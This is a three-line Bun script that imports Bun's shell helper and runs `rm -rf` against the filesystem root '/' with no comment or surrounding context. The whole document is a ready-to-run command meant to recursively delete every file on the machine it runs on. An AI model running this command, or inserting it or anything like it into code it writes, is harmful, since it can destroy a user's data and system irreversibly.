import { $ } from "bun";
const folder = "/";
await $`rm -rf ${folder}`;
